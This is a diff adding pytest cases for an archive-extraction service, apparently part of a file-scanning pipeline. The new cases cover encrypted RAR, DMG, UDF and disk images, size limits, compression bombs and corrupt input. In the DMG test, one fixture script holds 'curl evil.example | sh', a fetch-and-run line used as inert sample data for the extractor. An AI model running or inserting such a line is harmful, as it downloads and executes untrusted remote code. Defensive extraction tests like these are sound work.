@@ -1,6 +1,7 @@
 """Extract on the containers of today's delivery formats (issue 14), built at test time by
-tests/formats.py: ISO 9660 (Joliet, UDF bridge), CAB, cpio, .deb, xar, MSI. The same limits,
-name and link rules as zip/tar apply; each test shows one of them on the new path.
+tests/formats.py: ISO 9660 (Joliet, UDF bridge), CAB, cpio, .deb, xar, MSI, RAR 4/5 (also AES
+encrypted, with and without encrypted headers), DMG, UDF-only images, VHD and raw disks. The
+same limits, name and link rules as zip/tar apply; each test shows one of them on the new path.
 """
 
 from __future__ import annotations
@@ -11,8 +12,8 @@ import shutil
 import pytest
 
 from formats import (
-    libarchive_write, make_cab, make_cpio, make_deb, make_fat, make_iso, make_mbr_disk, make_msi, make_ntfs, make_rar4_stored,
-    make_rar5_stored, make_vhd, rar4_block,
+    libarchive_write, make_cab, make_cpio, make_deb, make_dmg, make_fat, make_iso, make_mbr_disk, make_msi, make_ntfs,
+    make_rar4_stored, make_rar5_stored, make_udf, make_vhd, rar4_block,
 )
 from dispatcher.identify import identify
 from services.extract.libarchive_lib import libarchive
@@ -90,8 +91,8 @@ def _reads_xar() -> bool:
     return True
 
 
-@pytest.mark.skipif(not _reads_xar(), reason="this libarchive was built without xar (it needs libxml2 or expat): "
-                                           "install Debian's libarchive13 to read xar")
+@pytest.mark.skipif(not _reads_xar(), reason="this libarchive was built without xar (it needs libxml2 or expat), "
+                                           "so it cannot write the specimen: install Debian's libarchive13")
 def test_xar_members_come_out():
     xar = libarchive_write("xar", [("Payload/app", b"\xcf\xfa\xed\xfe mach-o"), ("Distribution", b"<xml/>")])
     assert identify(xar) == "archive/xar"
@@ -167,19 +168,126 @@ def test_rar5_members_come_out():
     assert children(run) == {"invoice.pdf.lnk": b"L\0\0\0 shortcut", "b.txt": b"hello"}
 
 
-def test_rar_with_encrypted_headers_is_reported_as_password_protected():
+def test_rar_with_undecryptable_headers_is_reported_as_password_protected():
     rar = b"Rar!\x1a\x07\x00" + rar4_block(0x73, 0x0080, bytes(6)) + bytes(range(200))  # MHD_PASSWORD: headers encrypted
     run = extract(rar, "headers.rar")
     assert_clean(run)
     assert run.extracted == []
-    assert "RAR encryption" in body(run, "Password-protected members not extracted")
+    assert "encrypted headers (member names hidden): none of the" in body(run, "Password-protected members not extracted")
 
 
 def test_encrypted_rar_members_are_reported_not_handed_out_as_ciphertext():
     run = extract(make_rar4_stored({"a.txt": b"ciphertext stand-in"}, encrypted=True), "locked.rar")
     assert_clean(run)
     assert run.extracted == []
-    assert "cannot decrypt" in body(run, "Password-protected members not extracted")
+    assert "'a.txt': none of the" in body(run, "Password-protected members not extracted")
+
+
+LOCKED = {"invoice.pdf.lnk": b"L\0\0\0 shortcut", "docs/readme.txt": b"hello " * 100}
+
+
+@pytest.mark.parametrize("encrypt_headers", [False, True], ids=["members", "headers"])
+def test_aes_rar5_opens_with_a_wordlist_password(encrypt_headers):
+    rar = make_rar5_stored(LOCKED, password="infected", encrypt_headers=encrypt_headers)
+    assert identify(rar) == "archive/rar"
+    run = extract(rar, "locked.rar")
+    assert_clean(run)
+    assert children(run) == {"invoice.pdf.lnk": LOCKED["invoice.pdf.lnk"], "readme.txt": LOCKED["docs/readme.txt"]}
+    assert run.tags("info.password") == {"infected"}
+    assert 5 in run.heuristics
+
+
+def _with(data: bytes, **kwargs):
+    return run_service_once(load_service("extract"), data, file_type="archive/rar", name="locked.rar", **kwargs)
+
+
+@pytest.mark.parametrize("encrypt_headers", [False, True], ids=["members", "headers"])
+@pytest.mark.parametrize("source", ["parameter", "temp password", "temp passwords"])
+def test_aes_rar5_opens_with_the_submissions_or_the_parents_password(source, encrypt_headers):
+    rar = make_rar5_stored(LOCKED, password="Spring#2026", encrypt_headers=encrypt_headers)
+    assert extract(rar, "locked.rar").extracted == []  # not in the wordlist
+    given = {"parameter": {"service_params": {"password": "Spring#2026"}},
+             "temp password": {"temp_data": {"password": "Spring#2026"}},  # what a parent e-mail's body leaves
+             "temp passwords": {"temp_data": {"passwords": ["wrong", "Spring#2026"]}}}[source]
+    run = _with(rar, **given)
+    assert_clean(run)
+    assert set(children(run)) == {"invoice.pdf.lnk", "readme.txt"}
+    assert run.tags("info.password") == {"Spring#2026"}
+
+
+@pytest.mark.parametrize("encrypt_headers", [False, True], ids=["members", "headers"])
+def test_aes_rar5_with_an_unknown_password_stays_shut(encrypt_headers):
+    run = extract(make_rar5_stored(LOCKED, password="nobody-knows-it", encrypt_headers=encrypt_headers), "locked.rar")
+    assert_clean(run)
+    assert run.extracted == []
+    section = body(run, "Password-protected members not extracted")
+    assert "passwords tried worked" in section
+    assert ("member names hidden" in section) is encrypt_headers
+    assert run.tags("info.password") == set()
+
+
+def test_rar_member_past_the_size_limit_ends_the_archive():
+    rar = make_rar5_stored({"big.bin": b"A" * 50_000, "after.txt": b"after"})
+    run = extract(rar, "big.rar", max_member_bytes=10_000)
+    assert_clean(run)
+    assert run.extracted == []  # one pass over the archive: the rest lies past the member given up
+    assert "member limit" in body(run, "Size limit reached")
+
+
+def test_rar_with_a_bad_crc_is_corrupt_and_the_bad_member_is_not_kept():
+    rar = bytearray(make_rar5_stored({"a.txt": b"first member", "b.txt": b"second member"}))
+    rar[rar.find(b"second member")] ^= 0xFF
+    run = extract(bytes(rar), "flipped.rar")
+    assert run.result.error is None
+    assert children(run) == {"a.txt": b"first member"}
+    assert "Corrupt archive" in titles(run)
+
+
+# -- DMG and UDF-only images (7-Zip) -----------------------------------------------------------
+@pytest.mark.parametrize("compress, file_type", [(True, "archive/dmg"), (False, "archive/img")], ids=["udzo-zlib", "udro-raw"])
+def test_dmg_gives_the_files_of_its_volume(compress, file_type):
+    """A zlib-compressed (UDZO) image is typed by magika and read by 7-Zip; an uncompressed one
+    starts with its volume's boot sector, so it is typed and read as the raw disk image it also is."""
+    dmg = make_dmg(make_fat({"Install.app/run.command": b"#!/bin/sh\ncurl evil.example | sh\n", "readme.txt": b"hi"}),
+                   compress=compress)
+    assert identify(dmg) == file_type
+    run = extract(dmg, "Install.dmg")
+    assert_clean(run)
+    assert children(run) == {"run.command": b"#!/bin/sh\ncurl evil.example | sh\n", "readme.txt": b"hi"}
+    assert "Install.app/run.command" in body(run, "Extracted 2 files")
+
+
+def test_dmg_of_zeros_is_a_bomb():
+    dmg = make_dmg(make_fat({"zeros.bin": bytes(6 * 1024 * 1024)}, size=8 * 1024 * 1024))
+    assert len(dmg) < 200_000
+    run = extract(dmg, "zeros.dmg", max_ratio=20)
+    assert_clean(run)
+    assert "Compression bomb" in titles(run)
+    assert run.extracted == []
+
+
+def test_truncated_dmg_is_a_finding():
+    dmg = make_dmg()
+    run = extract(dmg[: len(dmg) // 2], "cut.dmg", )
+    assert run.result.error is None
+    assert run.extracted == []
+    assert titles(run) & {"Corrupt archive", "Not a supported archive"}
+
+
+def test_udf_only_image_gives_its_files():
+    udf = make_udf({"invoice.pdf.lnk": b"L\0\0\0 shortcut", "readme.txt": b"hello"})
+    assert identify(udf) == "archive/udf"
+    assert b"CD001" not in udf[32768:40960]  # no ISO 9660 side for libarchive to read
+    run = extract(udf, "disk.img")
+    assert_clean(run)
+    assert children(run) == {"invoice.pdf.lnk": b"L\0\0\0 shortcut", "readme.txt": b"hello"}
+
+
+def test_truncated_udf_is_a_finding():
+    udf = make_udf({"a.txt": b"udf member\n" * 500, "b.txt": b"second"})
+    run = extract(udf[: len(udf) // 2], "cut.img")
+    assert run.result.error is None
+    assert "Corrupt archive" in titles(run)
 
 
 def test_truncated_rar_is_a_finding():
